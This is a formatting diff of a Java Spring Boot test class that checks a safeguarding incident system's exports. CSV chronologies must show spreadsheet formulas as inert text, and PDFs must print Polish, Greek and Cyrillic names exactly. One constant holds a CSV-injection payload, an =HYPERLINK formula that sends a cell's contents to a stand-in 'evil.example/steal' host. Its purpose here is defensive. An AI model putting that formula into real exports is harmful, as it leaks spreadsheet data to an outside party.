@@ -19,15 +19,21 @@ import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.test.context.ActiveProfiles;
 import org.springframework.test.context.TestPropertySource;
 
-/** Exports are safe to open: no live formula in a spreadsheet, and every name printed as it was written. */
+/**
+ * Exports are safe to open: no live formula in a spreadsheet, and every name printed as
+ * it was written.
+ */
 @SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
 @ActiveProfiles("demo")
 @TestPropertySource(properties = "safeguarding.post-service.url=http://localhost:9")
 abstract class ExportSafetyContract {
 
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click for the full record\")";
+
     private static final String POLISH = "Łukasz Żółć";
+
     private static final String GREEK = "Αλέξανδρος Παπαδόπουλος";
+
     private static final String RUSSIAN = "Дмитрий Иванов";
 
     @LocalServerPort
@@ -43,14 +49,19 @@ abstract class ExportSafetyContract {
     @Test
     void aFormulaInTheChronologyCsvIsShownAsTextNeverRun() throws IOException {
         String id = report(IncidentApiContract.yellowForm("Pupil bullied in a group chat"));
-        assertThat(api.as("dsl").post("/api/incidents/" + id + "/escalation", Map.of("to", "SLT", "reason", FORMULA))
-                .status()).isEqualTo(200);
+        assertThat(api.as("dsl")
+            .post("/api/incidents/" + id + "/escalation", Map.of("to", "SLT", "reason", FORMULA))
+            .status()).isEqualTo(200);
 
         Api.Response csv = api.as("dsl").get("/api/incidents/" + id + "/chronology", "Accept", "text/csv");
 
         assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
-        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
-                .parse(new StringReader(csv.body())).getRecords();
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder()
+            .setHeader()
+            .setSkipHeaderRecord(true)
+            .build()
+            .parse(new StringReader(csv.body()))
+            .getRecords();
         assertThat(rows).extracting(row -> row.get("why")).contains("'" + FORMULA).doesNotContain(FORMULA);
         assertThat(csv.body()).doesNotContain(",=HYPERLINK").doesNotContain("\"=HYPERLINK");
     }
@@ -58,22 +69,25 @@ abstract class ExportSafetyContract {
     @Test
     void pdfExportsPrintLatinExtendedGreekAndCyrillicNamesExactly() throws IOException {
         Map<String, Object> allegation = IncidentApiContract.allegation("Concern about " + POLISH);
-        allegation.put("subjects", List.of(Map.of("kind", "STAFF", "name", POLISH), Map.of("kind", "PUPIL", "name", GREEK),
-                Map.of("kind", "PUPIL", "name", RUSSIAN)));
+        allegation.put("subjects", List.of(Map.of("kind", "STAFF", "name", POLISH),
+                Map.of("kind", "PUPIL", "name", GREEK), Map.of("kind", "PUPIL", "name", RUSSIAN)));
         String id = report(allegation);
-        Api.Response referred = api.as("head").post("/api/incidents/" + id + "/lado-referral", Map.of(
-                "adult", Map.of("name", POLISH, "role", "Teaching assistant", "employmentStatus", "Permanent"),
-                "allegation", Map.of("what", "Private messages to pupils", "when", "Last week", "where", "Instagram",
-                        "howItCameToLight", "A pupil told her teacher"),
-                "childrenInvolved", List.of(GREEK, RUSSIAN),
-                "actionsTaken", "Suspended from the school's accounts",
-                "informed", Map.of("parents", true, "police", false, "hr", true)));
+        Api.Response referred = api.as("head")
+            .post("/api/incidents/" + id + "/lado-referral", Map.of("adult",
+                    Map.of("name", POLISH, "role", "Teaching assistant", "employmentStatus", "Permanent"), "allegation",
+                    Map.of("what", "Private messages to pupils", "when", "Last week", "where", "Instagram",
+                            "howItCameToLight", "A pupil told her teacher"),
+                    "childrenInvolved", List.of(GREEK, RUSSIAN), "actionsTaken", "Suspended from the school's accounts",
+                    "informed", Map.of("parents", true, "police", false, "hr", true)));
         assertThat(referred.status()).as(referred.toString()).isEqualTo(200);
-        assertThat(api.as("head").post("/api/incidents/" + id + "/notes", Map.of("text", "Spoke to " + RUSSIAN + "'s mother"))
-                .status()).isEqualTo(200);
+        assertThat(api.as("head")
+            .post("/api/incidents/" + id + "/notes", Map.of("text", "Spoke to " + RUSSIAN + "'s mother"))
+            .status()).isEqualTo(200);
 
-        String referral = pdfText(api.as("head").get("/api/incidents/" + id + "/lado-referral", "Accept", "application/pdf"));
-        String chronology = pdfText(api.as("head").get("/api/incidents/" + id + "/chronology", "Accept", "application/pdf"));
+        String referral = pdfText(
+                api.as("head").get("/api/incidents/" + id + "/lado-referral", "Accept", "application/pdf"));
+        String chronology = pdfText(
+                api.as("head").get("/api/incidents/" + id + "/chronology", "Accept", "application/pdf"));
 
         assertThat(referral).contains(POLISH, GREEK, RUSSIAN);
         assertThat(chronology).contains("Concern about " + POLISH, "Spoke to " + RUSSIAN + "'s mother");
@@ -97,8 +111,10 @@ abstract class ExportSafetyContract {
                 text.append(extractor.getTextFromPage(page)).append('\n');
             }
             return text.toString();
-        } finally {
+        }
+        finally {
             reader.close();
         }
     }
+
 }
